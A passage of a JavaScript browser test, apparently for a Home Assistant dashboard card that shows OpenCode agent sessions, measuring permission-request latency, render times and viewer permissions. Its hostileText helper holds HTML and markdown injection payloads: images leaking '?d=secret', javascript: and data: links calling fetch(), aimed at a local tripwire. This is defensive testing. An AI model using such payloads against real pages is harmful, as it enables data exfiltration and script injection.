// The dashboard card in a real browser against a real Home Assistant, the real agent,
// the real OpenCode and the fake LLM. Run it through tests/browser/run (which makes the
// loopback-only network namespace this needs); see docs/card.md.
//
// Checks: a permission request appears in the card within 2 s of the prompt and within 300 ms of
// reaching Home Assistant; Approve runs the command and the row returns to idle; Reject
// with a reason reaches the model; a question is answered by tapping an option; a user
// who may not steer sees no steering buttons; with 50 sessions, ten requests (two a
// second) each reach the card within 300 ms of reaching HA and no render of the card
// takes over 100 ms. Saves screenshots (light/dark, 390/1280 px) and timings.json
// (where the time went) in $OUT. Times come from the page (a MutationObserver, no
// polling) and Home Assistant's own timestamps, on the one clock of this machine.

import { spawn, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { cpSync, createWriteStream, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createRequire } from "node:module";
import { createServer as createHttpServer } from "node:http";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";

const REPO = resolve(dirname(fileURLToPath(import.meta.url)), "../..");
const require = createRequire(join(REPO, "card/package.json"));
const { chromium } = require("playwright-core");

const OUT = resolve(process.env.CARD_TEST_OUT ?? join(REPO, "target/card-test"));
const AGENT = resolve(process.env.OPENCODE_LOOKOUT_AGENT_BIN ?? join(REPO, "target/debug/opencode-lookout"));
const OPENCODE = process.env.OPENCODE_BIN;
const CHROMIUM = process.env.CHROMIUM_BIN ?? "/usr/bin/chromium";
const DOMAIN = "opencode_lookout";
const PERMISSION_DEADLINE_MS = 2000;
// "An update reaches the card within 300 ms of reaching HA" (issue 11).
const HA_TO_CARD_MS = 300;
const MANY_SESSIONS = 50;
// Prompts in the 50-session check, one every UPDATE_SPACING_MS: each makes a row wait.
const MANY_UPDATES = 10;
const UPDATE_SPACING_MS = 500;
// Longest one render of the card may take with 50 rows: a 100 ms hitch is the most a
// user does not notice. (Frame gaps and long tasks are recorded too, but they measure
// the whole page and the machine's load as much as the card.)
const MAX_RENDER_MS = 100;
const START = Date.now();
const timings = {};
const children = [];
const pages = [];
// Every console error of every page (checked: none is Home Assistant's unknown_command).
const consoleErrors = [];
// Checks that do not stop the run, so one run reports each of them (see expectThat).
const problems = [];
// The phone: what the card must fit (docs/card.md).
const PHONE = { width: 390, height: 844 };
// After an answer the row stays where it was, drawn as answered, for this long (the
// card holds it 3 s); the check watches it for this part of that time.
const HOLD_CHECK_MS = 1500;

function log(...args) {
  console.log(`[card-test +${((Date.now() - START) / 1000).toFixed(1)}s]`, ...args);
}

function fail(message) {
  throw new Error(message);
}

/** A check whose failure is reported at the end of the run, with the others. */
function expectThat(ok, message) {
  if (ok) return;
  problems.push(message);
  log(`CHECK FAILED: ${message}`);
}

async function step(name, fn) {
  const t = Date.now();
  log(`${name}…`);
  const result = await fn();
  timings[name] = Date.now() - t;
  return result;
}

/** Wait until fn() returns something truthy (a condition, never a fixed sleep). */
async function until(what, fn, timeoutMs = 30_000, intervalMs = 50) {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    let last;
    try {
      const value = await fn();
      if (value) return value;
    } catch (err) {
      last = err;
    }
    if (Date.now() > deadline) fail(`timed out after ${timeoutMs} ms waiting for ${what}${last ? `: ${last.message}` : ""}`);
    await new Promise((r) => setTimeout(r, intervalMs));
  }
}

function freePort() {
  return new Promise((ok, err) => {
    const server = createServer();
    server.once("error", err);
    server.listen(0, "127.0.0.1", () => {
      const { port } = server.address();
      server.close(() => ok(port));
    });
  });
}

/** Start a process, log its output to $OUT/<name>.log, resolve on the first line matching. */
function start(name, cmd, args, { env, cwd, ready, timeoutMs = 60_000 }) {
  const logFile = createWriteStream(join(OUT, `${name}.log`));
  const child = spawn(cmd, args, { env, cwd, stdio: ["ignore", "pipe", "pipe"], detached: true });
  children.push({ name, child });
  return new Promise((ok, err) => {
    let buffer = "";
    const timer = setTimeout(() => err(new Error(`${name} did not start within ${timeoutMs} ms (see ${name}.log)`)), timeoutMs);
    const onData = (chunk) => {
      logFile.write(chunk);
      if (ready === null) return;
      buffer += chunk.toString();
      const match = buffer.match(ready);
      if (match) {
        clearTimeout(timer);
        ready = null;
        ok(match);
      }
    };
    child.stdout.on("data", onData);
    child.stderr.on("data", onData);
    child.on("exit", (code) => {
      clearTimeout(timer);
      if (ready !== null) err(new Error(`${name} exited with ${code} before it was ready (see ${name}.log)`));
    });
  });
}

async function stopAll() {
  for (const { name, child } of children.reverse()) {
    if (child.exitCode !== null || child.signalCode !== null) continue;
    const exited = new Promise((r) => child.once("exit", r));
    try {
      process.kill(-child.pid, "SIGTERM");
    } catch {
      continue;
    }
    const timer = setTimeout(() => {
      log(`${name} ignored SIGTERM: killing it`);
      try {
        process.kill(-child.pid, "SIGKILL");
      } catch {}
    }, 10_000);
    await exited;
    clearTimeout(timer);
  }
}

async function http(method, url, { json, form, token } = {}) {
  const headers = {};
  let body;
  if (json !== undefined) {
    headers["content-type"] = "application/json";
    body = JSON.stringify(json);
  } else if (form !== undefined) {
    headers["content-type"] = "application/x-www-form-urlencoded";
    body = new URLSearchParams(form).toString();
  }
  if (token) headers.authorization = `Bearer ${token}`;
  const response = await fetch(url, { method, headers, body });
  const text = await response.text();
  if (!response.ok) fail(`${method} ${url}: HTTP ${response.status} ${text}`);
  return text ? JSON.parse(text) : null;
}

// ---------------------------------------------------------------- the stack

// OpenCode installs its plugins' npm dependencies into XDG_CONFIG_HOME when an instance
// boots; without a network (the namespace) that waits over a minute for timeouts. So
// config and cache live in a folder that --warm-up fills once, with the host's network.
const CACHE = process.env.OPENCODE_LOOKOUT_CACHE ?? join(process.env.HOME ?? tmpdir(), ".cache/opencode-lookout");
const WARM = resolve(process.env.CARD_TEST_WARM ?? join(CACHE, "card-test-opencode"));

function stackEnv(root) {
  const setup = JSON.parse(readFileSync(join(REPO, "tests/opencode_project.json"), "utf8"));
  const env = { ...process.env, ...setup.env };
  delete env.OPENCODE_SERVER_PASSWORD;
  for (const name of ["home", "data", "state"]) mkdirSync(join(root, name), { recursive: true });
  for (const name of ["config", "cache"]) mkdirSync(join(WARM, name), { recursive: true });
  Object.assign(env, {
    HOME: join(root, "home"),
    XDG_DATA_HOME: join(root, "data"),
    XDG_CONFIG_HOME: join(WARM, "config"),
    XDG_CACHE_HOME: join(WARM, "cache"),
    XDG_STATE_HOME: join(root, "state"),
  });
  return { env, setup };
}

/** Boot one OpenCode instance with the plugin installed (host network), then stop. */
async function warmUp() {
  const stamp = join(WARM, "warm");
  const plugin = createHash("sha256").update(readFileSync(join(REPO, "src/plugin.js"))).digest("hex");
  const want = `${OPENCODE} ${plugin}`;
  if (existsSync(stamp) && readFileSync(stamp, "utf8") === want) return;
  mkdirSync(OUT, { recursive: true });
  const root = mkdtempSync(join(tmpdir(), "ocl-card-warm-"));
  try {
    const { env } = stackEnv(root);
    const install = spawnSync(AGENT, ["--config-dir", join(root, "lookout"), "install-plugin"], { env, encoding: "utf8" });
    if (install.status !== 0) fail(`install-plugin failed: ${install.stderr}`);
    mkdirSync(join(root, "proj"));
    const [, url] = await start("opencode-warm-up", OPENCODE, ["serve", "--hostname", "127.0.0.1", "--port", "0"], {
      env,
      cwd: join(root, "proj"),
      ready: /listening on (http:\/\/[\d.:]+)/,
    });
    await until("a first OpenCode session", () => http("POST", `${url.replace(/\/$/, "")}/session`, { json: {} }), 180_000, 500);
    writeFileSync(stamp, want);
  } finally {
    await stopAll();
    rmSync(root, { recursive: true, force: true });
  }
}

/** The agent's run arguments from tests/agent_launch.json (the one place tests keep them). */
function agentArgs(configDir) {
  const args = JSON.parse(readFileSync(join(REPO, "tests/agent_launch.json"), "utf8"));
  const values = { config_dir: configDir, port: "0" };
  return args.map((arg) =>
    arg.replace(/\{(\w+)\}/g, (_, name) => (name in values ? values[name] : fail(`agent_launch.json: unknown {${name}}`))),
  );
}

async function startStack(root) {
  const { env, setup } = stackEnv(root);
  const [, llmPort] = await start("fake-llm", "python3", [join(REPO, "tests/fake_llm.py"), "--port", "0"], {
    env,
    cwd: REPO,
    ready: /listening on http:\/\/[\d.]+:(\d+)/,
  });
  const project = join(root, "proj");
  mkdirSync(project, { recursive: true });
  writeFileSync(join(project, "opencode.json"), JSON.stringify(setup.config).replaceAll("{LLM_PORT}", llmPort));
  const configDir = join(root, "lookout");
  const install = spawnSync(AGENT, ["--config-dir", configDir, "install-plugin"], { env, encoding: "utf8" });
  if (install.status !== 0) fail(`install-plugin failed: ${install.stderr}`);
  const [line] = await start("agent", AGENT, agentArgs(configDir), { env, cwd: REPO, ready: /opencode-lookout listening.*/ });
  const apiPort = Number(line.match(/api=\S*:(\d+)/)?.[1] ?? fail(`no api= in ${line}`));
  const [, opencodeUrl] = await start("opencode", OPENCODE, ["serve", "--hostname", "127.0.0.1", "--port", "0"], {
    env,
    cwd: project,
    ready: /listening on (http:\/\/[\d.:]+)/,
  });
  const stack = { env, project, configDir, apiPort, llm: `http://127.0.0.1:${llmPort}`, opencode: opencodeUrl.replace(/\/$/, "") };
  // A first prompt loads OpenCode's provider code: do it now, not in the timed prompt.
  const warm = await newSession(stack, "Warm up the provider");
  await prompt(stack, warm, "warm up");
  await until("the warm-up reply", async () => JSON.stringify(await llmRequests(stack)).includes("warm up"), 60_000, 100);
  // And a first shell command: OpenCode loads its shell parser when the bash tool first
  // asks for a permission (about a second on a busy machine), which is no part of
  // what the timed prompt measures. Answered on OpenCode's own API.
  await prompt(stack, warm, "RUN: true");
  const request = await until(
    "the warm-up permission request",
    async () => (await http("GET", `${stack.opencode}/permission`)).find((p) => p.sessionID === warm),
    60_000,
    100,
  );
  await opencode(stack, "POST", `/permission/${request.id}/reply`, { reply: "once" });
  await until("the warm-up command's result", async () =>
    (await llmRequests(stack)).some((req) => (req.body?.messages ?? []).some((m) => m.role === "tool")),
    60_000, 100,
  );
  return stack;
}

async function opencode(stack, method, path, json) {
  // A freshly started OpenCode sometimes resets its first connections: retry those.
  return until(`OpenCode ${method} ${path}`, () => http(method, stack.opencode + path, { json }).then((r) => r ?? true), 20_000, 250);
}

/**
 * A session with a title, as one is once its first prompt has run: OpenCode then asks
 * the model for no title, which would compete with the timed prompts for the CPU.
 */
async function newSession(stack, title) {
  return (await opencode(stack, "POST", "/session", { title })).id;
}

async function prompt(stack, sessionId, text) {
  await opencode(stack, "POST", `/session/${sessionId}/prompt_async`, { parts: [{ type: "text", text }] });
}

async function llmRequests(stack) {
  return http("GET", `${stack.llm}/_requests`);
}

// ---------------------------------------------------------------- Home Assistant

function haConfig(dir, port) {
  mkdirSync(join(dir, "custom_components"), { recursive: true });
  const component = join(dir, "custom_components", DOMAIN);
  cpSync(join(REPO, "custom_components", DOMAIN), component, {
    recursive: true,
    filter: (src) => !src.includes("__pycache__"),
  });
  // No default_config: it would load zeroconf/ssdp/dhcp, which multicast.
  writeFileSync(
    join(dir, "configuration.yaml"),
    `homeassistant:
  name: Lookout
  latitude: 0
  longitude: 0
  elevation: 0
  unit_system: metric
  time_zone: UTC
  currency: USD
  country: US
  language: en
http:
  server_host: 127.0.0.1
  server_port: ${port}
frontend:
config:
# The frontend asks recorder/info (history, statistics): without a recorder every page
# logs unknown_command. SQLite in this temporary config folder, as a real install has.
recorder:
  purge_keep_days: 1
logger:
  default: warning
  logs:
    custom_components.${DOMAIN}: debug
`,
  );
}

async function startHass(root) {
  const dir = join(root, "hass");
  const port = await freePort();
  haConfig(dir, port);
  const base = `http://127.0.0.1:${port}`;
  const env = { ...process.env, _OPENCODE_LOOKOUT_PY314_NO_SETUP: "1" };
  start("hass", join(REPO, "scripts/py314"), ["hass", "-c", dir, "--skip-pip", "--log-no-color"], {
    env,
    cwd: REPO,
    ready: null,
  }).catch(() => undefined);
  const hassChild = children.at(-1).child;
  await until(
    "Home Assistant's HTTP server",
    async () => {
      if (hassChild.exitCode !== null) fail("hass exited (see hass.log)");
      return (await fetch(`${base}/api/onboarding`)).ok;
    },
    120_000,
    200,
  );
  return { base, dir };
}

async function token(base, code) {
  const tokens = await http("POST", `${base}/auth/token`, {
    form: { grant_type: "authorization_code", code, client_id: `${base}/` },
  });
  return { ...tokens, client_id: `${base}/` };
}

async function onboard(base) {
  const clientId = `${base}/`;
  const { auth_code } = await http("POST", `${base}/api/onboarding/users`, {
    json: { client_id: clientId, name: "Admin", username: "admin", password: "admin-password-1", language: "en" },
  });
  const admin = await token(base, auth_code);
  const auth = { token: admin.access_token };
  await http("POST", `${base}/api/onboarding/core_config`, { ...auth, json: {} });
  await http("POST", `${base}/api/onboarding/analytics`, { ...auth, json: {} });
  await http("POST", `${base}/api/onboarding/integration`, {
    ...auth,
    json: { client_id: clientId, redirect_uri: `${base}/?auth_callback=1` },
  });
  return admin;
}

async function login(base, username, password) {
  const clientId = `${base}/`;
  const flow = await http("POST", `${base}/auth/login_flow`, {
    json: { client_id: clientId, handler: ["homeassistant", null], redirect_uri: `${base}/?auth_callback=1` },
  });
  const result = await http("POST", `${base}/auth/login_flow/${flow.flow_id}`, {
    json: { username, password, client_id: clientId },
  });
  if (result.type !== "create_entry") fail(`login of ${username} failed: ${JSON.stringify(result)}`);
  return token(base, result.result);
}

/** Add the integration through the config flow, filling in whatever its form asks. */
async function addIntegration(base, admin, stack) {
  const auth = { token: admin.access_token };
  let step = await http("POST", `${base}/api/config/config_entries/flow`, { ...auth, json: { handler: DOMAIN } });
  let pairing;
  for (let i = 0; step.type === "form" && i < 3; i++) {
    const data = {};
    for (const field of step.data_schema) {
      if (field.name === "host") data.host = "127.0.0.1";
      else if (field.name === "port") data.port = stack.apiPort;
      else if (field.name === "token") data.token = readFileSync(join(stack.configDir, "token"), "utf8").trim();
      else if (field.name === "pairing") {
        pairing ??= pairingString(stack);
        data.pairing = pairing;
      } else if (field.required) fail(`config flow asks for ${field.name}`);
    }
    step = await http("POST", `${base}/api/config/config_entries/flow/${step.flow_id}`, { ...auth, json: data });
    if (step.errors && Object.keys(step.errors).length) fail(`config flow: ${JSON.stringify(step.errors)}`);
  }
  if (step.type !== "create_entry") fail(`config flow ended with ${JSON.stringify(step)}`);
  return step.result;
}

/** Save the options form with its defaults, except for `values`. */
async function setOptions(base, admin, entryId, values) {
  const auth = { token: admin.access_token };
  const form = await http("POST", `${base}/api/config/config_entries/options/flow`, { ...auth, json: { handler: entryId } });
  if (form.type !== "form") fail(`options flow opened with ${JSON.stringify(form)}`);
  const data = {};
  for (const field of form.data_schema) {
    if (field.name in values) data[field.name] = values[field.name];
    else if (field.required && field.default !== undefined) data[field.name] = field.default;
  }
  for (const key of Object.keys(values)) if (!(key in data)) fail(`the options form has no ${key}`);
  const done = await http("POST", `${base}/api/config/config_entries/options/flow/${form.flow_id}`, { ...auth, json: data });
  if (done.type !== "create_entry") fail(`options flow ended with ${JSON.stringify(done)}`);
}

function pairingString(stack) {
  const run = spawnSync(AGENT, ["--config-dir", stack.configDir, "pair"], { env: stack.env, encoding: "utf8" });
  const line = `${run.stdout}`.split("\n").find((l) => l.trim().startsWith("lookout1:"));
  if (!line) fail(`opencode-lookout pair printed no pairing string: ${run.stdout} ${run.stderr}`);
  // The agent listens on a random port: the pairing string carries the configured one.
  return line.trim().replace(/^lookout1:\d+:/, `lookout1:${stack.apiPort}:`);
}

// ---------------------------------------------------------------- the browser

async function openDashboard(browser, base, tokens, options = {}) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, ...options });
  const hassTokens = {
    access_token: tokens.access_token,
    refresh_token: tokens.refresh_token,
    expires_in: tokens.expires_in,
    token_type: "Bearer",
    hassUrl: base,
    clientId: tokens.client_id,
    expires: Date.now() + tokens.expires_in * 1000,
  };
  await context.addInitScript((t) => {
    localStorage.setItem("hassTokens", JSON.stringify(t));
    // Rejections with plain objects (websocket errors) reach Playwright as "Object".
    window.addEventListener("unhandledrejection", (e) => console.error(`unhandled rejection: ${JSON.stringify(e.reason)}`));
  }, hassTokens);
  const page = await context.newPage();
  pages.push(page);
  page.on("pageerror", (err) => log(`page error: ${err.name} ${err.message} ${err.stack ?? ""}`));
  page.on("console", (msg) => {
    if (msg.type() === "error" || process.env.CARD_TEST_DEBUG) log(`console ${msg.type()}: ${msg.text()}`);
    if (msg.type() === "error") consoleErrors.push(msg.text());
  });
  page.on("requestfailed", (req) => log(`request failed: ${req.url()} ${req.failure()?.errorText}`));
  if (process.env.CARD_TEST_DEBUG) {
    const sent = new Map();
    page.on("websocket", (ws) => {
      ws.on("framesent", (f) => {
        try {
          const m = JSON.parse(f.payload);
          sent.set(m.id, m.type);
        } catch {}
      });
      ws.on("framereceived", (f) => {
        if (String(f.payload).includes('"success":false')) {
          const m = JSON.parse(f.payload);
          log(`ws error for ${sent.get(m.id)}: ${JSON.stringify(m.error)}`);
        }
      });
    });
    page.on("request", (r) => r.url().includes("lookout-card") && log(`request ${r.url()}`));
    page.on("requestfinished", (r) => r.url().includes("lookout-card") && log(`finished ${r.url()}`));
  }
  await page.goto(`${base}/opencode-lookout/0`);
  // The card's module must define the element in the registry Home Assistant reads
  // (its scoped-registry polyfill), however the module and the app race at boot.
  await page.waitForFunction(() => customElements.get("opencode-lookout-card"), null, { timeout: 30_000 });
  await page.locator("opencode-lookout-card ha-card").waitFor({ timeout: 30_000 });
  return page;
}

async function callWS(page, message) {
  return page.evaluate(async (m) => {
    try {
      return await document.querySelector("home-assistant").hass.callWS(m);
    } catch (err) {
      throw new Error(`${m.type}: ${JSON.stringify(err)}`);
    }
  }, message);
}

function row(page, sessionId) {
  return page.locator(`opencode-lookout-card li.row[data-session="${sessionId}"]`);
}

// What a row shows when it waits for a permission a steerer can answer.
const APPROVABLE = 'li.row[data-state="waiting_permission"] .request button.action.primary';

/**
 * Record, in the page, when each row first matches `selector` (a match inside the
 * card's shadow root, attributed to its row): when the card's DOM had it (a
 * MutationObserver: exact, no polling) and the next animation frame. Times are epoch
 * ms, the clock Home Assistant's timestamps use. Read them with rowMarks().
 */
async function watchRows(page, name, selector) {
  const card = await page.locator("opencode-lookout-card").elementHandle();
  await card.evaluate(
    (el, [name, selector]) => {
      const now = () => performance.timeOrigin + performance.now();
      const seen = {};
      (window.__lookoutRows ??= {})[name] = seen;
      const check = () => {
        const t = now();
        const fresh = [];
        for (const hit of el.shadowRoot.querySelectorAll(selector)) {
          const id = hit.closest("li.row")?.dataset.session;
          if (id && !(id in seen)) {
            seen[id] = { dom: t };
            fresh.push(id);
          }
        }
        if (fresh.length) {
          requestAnimationFrame(() => {
            const frame = now();
            for (const id of fresh) seen[id].frame = frame;
          });
        }
      };
      new MutationObserver(check).observe(el.shadowRoot, { subtree: true, childList: true, attributes: true });
      check();
    },
    [name, selector],
  );
}

function rowMarks(page, name) {
  return page.evaluate((name) => window.__lookoutRows[name], name);
}

/** The state sensor of each session (its unique id ends in `_<session id>_state`). */
async function stateSensors(page, sessionIds) {
  return until("the sessions' state sensors", async () => {
    const entries = await callWS(page, { type: "config/entity_registry/list" });
    const found = {};
    for (const entry of entries) {
      if (entry.platform !== DOMAIN || !entry.entity_id.startsWith("sensor.")) continue;
      const id = sessionIds.find((sid) => entry.unique_id.endsWith(`_${sid}_state`));
      if (id) found[entry.entity_id] = id;
    }
    return Object.keys(found).length === sessionIds.length ? found : null;
  });
}

/**
 * Record, in the page, every state Home Assistant writes to each session's state sensor
 * after now: the state, its last_changed (when the agent's update reached HA, in the same
 * dispatch that schedules the card's push) and when that reached the page. Subscribes to
 * those entities only, so the measuring adds next to no traffic. Read with stateMarks().
 */
async function watchStates(page, name, sensors) {
  await page.evaluate(
    async ([name, sensors]) => {
      const seen = Object.fromEntries(Object.values(sensors).map((id) => [id, []]));
      (window.__lookoutStates ??= {})[name] = seen;
      const { connection } = document.querySelector("home-assistant").hass;
      // subscribe_entities' compressed states: `a` adds (the current state, skipped),
      // `c` changes (`+` holds what changed: `s` the state, `lc` last_changed in s).
      await connection.subscribeMessage(
        (message) => {
          const at = performance.timeOrigin + performance.now();
          for (const [entityId, change] of Object.entries(message.c ?? {})) {
            const plus = change["+"];
            if (entityId in sensors && plus?.s !== undefined && plus.lc !== undefined) {
              seen[sensors[entityId]].push({ state: plus.s, ha: plus.lc * 1000, page: at });
            }
          }
        },
        { type: "subscribe_entities", entity_ids: Object.keys(sensors) },
      );
    },
    [name, sensors],
  );
}

function stateMarks(page, name) {
  return page.evaluate((name) => window.__lookoutStates[name], name);
}

/**
 * Wait until every session is drawn waiting for a permission; return per session:
 * `effect` (HA got the prompt's first effect: the session's first new state), `ha` (HA
 * got the permission request), `page` (that reached the page), `dom` and `frame` (the
 * card had it, and the next frame).
 */
async function marks(page, name, sessionIds, timeoutMs = 30_000) {
  return until(
    `the card and Home Assistant to show ${sessionIds.length} session(s) waiting`,
    async () => {
      const [rows, states] = await Promise.all([rowMarks(page, name), stateMarks(page, name)]);
      const out = {};
      for (const id of sessionIds) {
        const asked = states[id].find((s) => s.state === "waiting_permission");
        if (rows[id]?.frame === undefined || !asked) return null;
        // No state before the request (the agent never skips "working"; should it, the
        // 2 s check below falls back to counting from the prompt itself).
        const effect = states[id][0] === asked ? undefined : states[id][0].ha;
        out[id] = { effect, ha: asked.ha, page: asked.page, ...rows[id] };
      }
      return out;
    },
    timeoutMs,
  );
}

/**
 * Time every render of the card (Lit's update(): template, diff and DOM writes) from
 * now on; the returned function reads the durations in ms.
 */
async function watchRenders(page) {
  const card = await page.locator("opencode-lookout-card").elementHandle();
  await card.evaluate((el) => {
    const durations = [];
    window.__lookoutRenders = durations;
    const update = el.update;
    el.update = function (changed) {
      const t = performance.now();
      update.call(this, changed);
      durations.push(performance.now() - t);
    };
  });
  return () => page.evaluate(() => window.__lookoutRenders);
}

/** Start recording the page's frames and long tasks; stop() returns the worst of them. */
async function watchFrames(page) {
  await page.evaluate(() => {
    const rec = { last: performance.now(), maxGap: 0, frames: 0, running: true, longTasks: [] };
    window.__lookoutFrames = rec;
    const frame = (t) => {
      rec.maxGap = Math.max(rec.maxGap, t - rec.last);
      rec.last = t;
      rec.frames++;
      if (rec.running) requestAnimationFrame(frame);
    };
    requestAnimationFrame(frame);
    rec.observer = new PerformanceObserver((list) => rec.longTasks.push(...list.getEntries().map((e) => e.duration)));
    rec.observer.observe({ type: "longtask" });
  });
  return {
    stop: () =>
      page.evaluate(() => {
        const rec = window.__lookoutFrames;
        rec.running = false;
        rec.observer.disconnect();
        return { maxGap: rec.maxGap, frames: rec.frames, longTasks: rec.longTasks };
      }),
  };
}

async function screenshots(page, name) {
  const files = [];
  for (const scheme of ["light", "dark"]) {
    await page.emulateMedia({ colorScheme: scheme });
    // Home Assistant's default theme follows the system: wait until it applied.
    await until(`${scheme} theme`, () =>
      page.evaluate((dark) => {
        const card = document.querySelector("home-assistant")?.hass?.themes?.darkMode;
        return card === dark;
      }, scheme === "dark"),
    );
    for (const width of [1280, 390]) {
      await page.setViewportSize({ width, height: width > 500 ? 900 : 844 });
      const file = join(OUT, `${name}-${scheme}-${width}.png`);
      await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r))));
      await page.screenshot({ path: file, fullPage: true });
      await page.locator("opencode-lookout-card").screenshot({ path: join(OUT, `${name}-card-${scheme}-${width}.png`) });
      files.push(file);
    }
  }
  await page.emulateMedia({ colorScheme: "light" });
  await page.setViewportSize({ width: 1280, height: 900 });
  return files;
}

/** An HTTP listener on loopback that records every connection and request it gets. */
function tripwire() {
  return new Promise((ok, err) => {
    const seen = { connections: 0, requests: [] };
    const server = createHttpServer((req, res) => {
      seen.requests.push(req.url);
      res.writeHead(204).end();
    });
    server.on("connection", () => seen.connections++);
    server.once("error", err);
    server.listen(0, "127.0.0.1", () =>
      ok({
        seen,
        url: `http://127.0.0.1:${server.address().port}`,
        close: () => {
          server.closeAllConnections();
          return new Promise((r) => server.close(r));
        },
      }),
    );
  });
}

/** A message that tries every way of making the browser fetch `base` or run script. */
function hostileText(base) {
  return [
    "HOSTILE-MESSAGE with secrets in image URLs",
    `![status](${base}/markdown-image.png?d=secret)`,
    `<img src="${base}/raw-img.png?d=secret">`,
    `<img srcset="${base}/srcset.png?d=secret 1x" alt="s">`,
    `<p style="background-image: url(${base}/css-url.png?d=secret)">styled</p>`,
    `<svg width="10" height="10"><image href="${base}/svg-image.png?d=secret" width="10" height="10"/></svg>`,
    `<video poster="${base}/poster.png?d=secret" src="${base}/video.mp4"></video>`,
    `<iframe src="${base}/iframe.html?d=secret"></iframe>`,
    `<a href="javascript:fetch('${base}/js-href')">raw js link</a>`,
    `[js link](javascript:fetch('${base}/js-link'))`,
    `[data link](data:text/html,<script>fetch('${base}/data-link')</script>)`,
    `![data image](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${base}/data-svg.png"/></svg>)`,
  ].join("\n\n");
}

/**
 * In the page: what an element holds, shadow roots included, that could load or run
 * something: elements that fetch, style attributes, handlers, links and their targets.
 */
function scanForRemoteContent(root) {
  const found = { loaders: [], styles: [], handlers: [], links: [], text: "" };
  const visit = (node) => {
    for (const el of node.querySelectorAll("*")) {
      const tag = el.localName;
      if (["img", "picture", "source", "video", "audio", "iframe", "object", "embed", "image", "svg", "link", "style", "script"].includes(tag)) {
        found.loaders.push(el.outerHTML.slice(0, 200));
      }
      if (el.hasAttribute("style") && /url\(/i.test(el.getAttribute("style"))) found.styles.push(el.outerHTML.slice(0, 200));
      for (const attr of el.getAttributeNames()) if (/^on/i.test(attr)) found.handlers.push(`${tag} ${attr}`);
      if (tag === "a") found.links.push({ href: el.getAttribute("href"), target: el.getAttribute("target"), rel: el.getAttribute("rel") });
      if (el.shadowRoot) {
        found.text += el.shadowRoot.textContent;
        visit(el.shadowRoot);
      }
    }
  };
  found.text = root.textContent;
  visit(root);
  return found;
}

/** In the page: where each --flag of a command is drawn (the tops of its line boxes). */
function flagLines(pre) {
  const nodes = [];
  const walker = document.createTreeWalker(pre, NodeFilter.SHOW_TEXT);
  let text = "";
  for (let n = walker.nextNode(); n; n = walker.nextNode()) {
    nodes.push([n, text.length]);
    text += n.data;
  }
  const at = (i) => {
    const [node, start] = nodes.findLast(([, s]) => s <= i);
    return [node, i - start];
  };
  const out = [];
  for (const m of text.matchAll(/--[\w.=-]+/g)) {
    const range = document.createRange();
    range.setStart(...at(m.index));
    const [node, offset] = at(m.index + m[0].length - 1);
    range.setEnd(node, offset + 1);
    const tops = [...range.getClientRects()].filter((r) => r.width > 0).map((r) => r.top);
    out.push({ flag: m[0], lines: tops.length ? Math.round(Math.max(...tops) - Math.min(...tops)) : -1 });
  }
  return { flags: out, overflow: pre.scrollWidth - pre.clientWidth, text };
}

/** In the page: the width the placeholder needs and the room the field has for it. */
function placeholderRoom(input) {
  const style = getComputedStyle(input);
  const ctx = document.createElement("canvas").getContext("2d");
  ctx.font = `${style.fontStyle} ${style.fontWeight} ${style.fontSize} ${style.fontFamily}`;
  return {
    placeholder: input.placeholder,
    need: Math.ceil(ctx.measureText(input.placeholder).width),
    room: Math.floor(input.clientWidth - parseFloat(style.paddingLeft) - parseFloat(style.paddingRight)),
    scrollWidth: input.scrollWidth,
    clientWidth: input.clientWidth,
  };
}

/** In the page: the top of a row every frame for `ms` (null while it is not drawn). */
async function rowTops(card, [sessionId, ms]) {
  const tops = [];
  const start = performance.now();
  while (performance.now() - start < ms) {
    await new Promise((r) => requestAnimationFrame(r));
    const el = card.shadowRoot.querySelector(`li.row[data-session="${sessionId}"]`);
    tops.push(el ? Math.round(el.getBoundingClientRect().top) : null);
  }
  return tops;
}

// ---------------------------------------------------------------- the test

async function main() {
  if (!OPENCODE || !existsSync(OPENCODE)) fail("OPENCODE_BIN is not set (OPENCODE_BIN=$(scripts/setup-opencode | tail -n1))");
  if (!existsSync(AGENT)) fail(`agent binary ${AGENT} missing: cargo build`);
  rmSync(OUT, { recursive: true, force: true });
  mkdirSync(OUT, { recursive: true });
  const root = mkdtempSync(join(tmpdir(), "ocl-card-"));
  let browser;
  try {
    const [stack, hass] = await step("start the agent, OpenCode, the fake LLM and Home Assistant", () =>
      Promise.all([startStack(root), startHass(root)]),
    );
    const admin = await step("onboard Home Assistant", () => onboard(hass.base));
    const entry = await step("add the integration (config flow)", () => addIntegration(hass.base, admin, stack));
    // By default HA keeps devices (and so card rows) for 20 sessions per machine; the card
    // must stay smooth with MANY_SESSIONS rows, so raise the cap through the options flow.
    await step("raise the session device cap (options flow)", () =>
      setOptions(hass.base, admin, entry.entry_id, { max_session_devices: MANY_SESSIONS + 10 }),
    );

    browser = await chromium.launch({
      executablePath: CHROMIUM,
      headless: true,
      args: [
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
      ],
    });
    const page = await step("save a dashboard holding the card and open it", async () => {
      const setup = await openDashboardSetup(browser, hass.base, admin);
      await setup.context.close();
      return openDashboard(browser, hass.base, admin);
    });
    const viewer = await step("create a user who may not steer", async () => {
      const user = await callWS(page, { type: "config/auth/create", name: "Viewer", group_ids: ["system-users"], local_only: true });
      await callWS(page, {
        type: "config/auth_provider/homeassistant/create",
        user_id: user.user.id,
        username: "viewer",
        password: "viewer-password-1",
      });
      return login(hass.base, "viewer", "viewer-password-1");
    });

    // 1. A permission request shows up within 2 s of the prompt and 300 ms of reaching
    // HA; a viewer sees it without buttons; Approve runs it.
    const approveSession = await newSession(stack, "Release notes for 2.4");
    await row(page, approveSession).waitFor({ timeout: 30_000 });
    const approveRow = row(page, approveSession);
    await step("permission request appears in the card", async () => {
      await watchRows(page, "first", APPROVABLE);
      await watchStates(page, "first", await stateSensors(page, [approveSession]));
      const sent = Date.now();
      await prompt(stack, approveSession, "RUN: echo approved-from-card > approved.txt");
      const { [approveSession]: at } = await marks(page, "first", [approveSession]);
